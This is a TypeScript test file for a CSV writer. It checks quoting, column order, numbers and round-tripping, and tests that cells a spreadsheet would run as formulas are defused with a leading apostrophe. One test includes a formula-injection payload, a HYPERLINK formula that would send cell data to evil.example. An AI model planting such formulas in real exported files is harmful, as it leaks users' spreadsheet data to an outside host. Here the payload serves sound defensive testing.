import { strict as assert } from 'node:assert';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { toCsv } from './csv.js';

/** A strict RFC 4180 reader, to check that what toCsv writes reads back unchanged. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let index = 0;
  while (index < text.length) {
    if (text[index] === '"') {
      index += 1;
      for (;;) {
        const quote = text.indexOf('"', index);
        assert.ok(quote >= 0, 'unterminated quote');
        field += text.slice(index, quote);
        index = quote + 1;
        if (text[index] !== '"') break;
        field += '"';
        index += 1;
      }
    } else {
      const end = text.slice(index).search(/[,\r]/);
      const stop = end < 0 ? text.length : index + end;
      field += text.slice(index, stop);
      index = stop;
    }
    if (text[index] === ',') {
      row.push(field);
      field = '';
      index += 1;
    } else {
      assert.equal(text.slice(index, index + 2), '\r\n', 'a record ends with CRLF');
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      index += 2;
    }
  }
  return rows;
}

describe('toCsv', () => {
  it('quotes commas, quotes and line breaks, and leaves nulls empty', () => {
    const csv = toCsv([{ group: 'a,b', note: 'say "hi"', lines: 'one\ntwo', cost: 12, ratio: null, ok: true }]);
    assert.equal(csv, 'group,note,lines,cost,ratio,ok\r\n"a,b","say ""hi""","one\ntwo",12,,true\r\n');
  });

  it('writes the chosen columns in order, and only a header for no rows', () => {
    assert.equal(toCsv([{ a: 1, b: 2 }], ['b', 'a']), 'b,a\r\n2,1\r\n');
    assert.equal(toCsv<{ a: number }>([], ['a']), 'a\r\n');
  });

  it('reads back with an RFC 4180 reader: unchanged, but for the quote before a formula', () => {
    const asWritten = (text: string): string => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.string(), fc.string({ unit: 'binary' })), { minLength: 1 }), (pairs) => {
        const rows = pairs.map(([left, right]) => ({ left, right }));
        assert.deepEqual(parseCsv(toCsv(rows)), [['left', 'right'], ...pairs.map((pair) => pair.map(asWritten))]);
      }),
    );
  });

  it('keeps text that a spreadsheet would run as a formula as text', () => {
    const route = '=HYPERLINK("https://evil.example/?d="&A1,"Details")';
    const csv = toCsv([{ group: route, model: '@SUM(1+1)', key: '+1', session: '-2+3', trace: '\tx', note: '\r=1', plain: 'a=b' }]);
    const [, row] = parseCsv(csv);
    assert.deepEqual(row, [`'${route}`, "'@SUM(1+1)", "'+1", "'-2+3", "'\tx", "'\r=1", 'a=b']);
    assert.ok(csv.includes(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Details"")"`), 'guarded, then quoted per RFC 4180');
  });

  it('leaves numbers as numbers, negative ones included', () => {
    assert.equal(toCsv([{ cost: -1250, ratio: -0.5, tokens: 0, big: 1e21, ok: false }]), 'cost,ratio,tokens,big,ok\r\n-1250,-0.5,0,1e+21,false\r\n');
    assert.equal(toCsv([{ cost: '-1250' }]), "cost\r\n'-1250\r\n", 'a number held as text is text');
  });
});
